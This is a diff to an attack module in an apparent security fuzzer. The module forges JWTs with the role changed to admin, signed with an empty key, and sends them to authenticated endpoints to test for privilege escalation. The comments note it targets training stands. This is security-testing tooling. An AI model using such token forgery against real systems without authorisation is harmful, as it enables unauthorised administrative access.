@@ -3,9 +3,9 @@ from __future__ import annotations
 from typing import List
 
 import httpx
-import jwt  # pyjwt
 
-from fuzzer.attacks.base import AttackStrategy, AttackResult
+from fuzzer.attacks.base import AttackStrategy, AttackResult, response_evidence
+from fuzzer.attacks.jwt_tokens import analyze_token
 from fuzzer.runners.storage import Endpoint, AuthContext
 
 
@@ -16,10 +16,12 @@ class JwtRoleEscalation(AttackStrategy):
     """
 
     name = "jwt_role_escalation"
+    per_token = True
 
-    def applicable(self, endpoint: Endpoint, ctx: AuthContext) -> bool:
-        if not ctx.jwt_tokens:
-            return False
+    def context_applicable(self, ctx: AuthContext) -> bool:
+        return bool(ctx.jwt_tokens)
+
+    def endpoint_applicable(self, endpoint: Endpoint) -> bool:
         return endpoint.has_auth_header
 
     async def run(
@@ -29,32 +31,20 @@ class JwtRoleEscalation(AttackStrategy):
         client: httpx.AsyncClient,
     ) -> List[AttackResult]:
         results: List[AttackResult] = []
-        url = endpoint.path
+        url = endpoint.url
 
         for token in ctx.jwt_tokens:
-            try:
-                header = jwt.get_unverified_header(token)
-                payload = jwt.decode(
-                    token,
-                    options={"verify_signature": False},
-                )
-            except Exception:
+            analysis = analyze_token(token)
+            if analysis is None:
                 # не удалось разобрать токен — пропускаем
                 continue
 
-            original_role = payload.get("role")
-            if original_role == "admin":
-                # уже админ — неинтересно
-                continue
-
-            # пытаемся задать роль admin
-            payload["role"] = "admin"
+            original_role = analysis.role
 
-            alg = header.get("alg", "HS256")
-            try:
-                # для учебных стендов пробуем "пустой" ключ
-                forged = jwt.encode(payload, key="", algorithm=alg)
-            except Exception:
+            # роль admin, подпись "пустым" ключом — подделка готова заранее;
+            # для уже админских токенов и асимметричных алгоритмов её нет
+            forged = analysis.variants.get("role_escalation")
+            if forged is None:
                 continue
 
             headers = dict(ctx.headers)
@@ -76,7 +66,7 @@ class JwtRoleEscalation(AttackStrategy):
                         evidence={
                             "original_role": original_role,
                             "status_code": resp.status_code,
-                            "response_sample": resp.text[:512],
+                            **response_evidence(resp),
                         },
                     )
                 )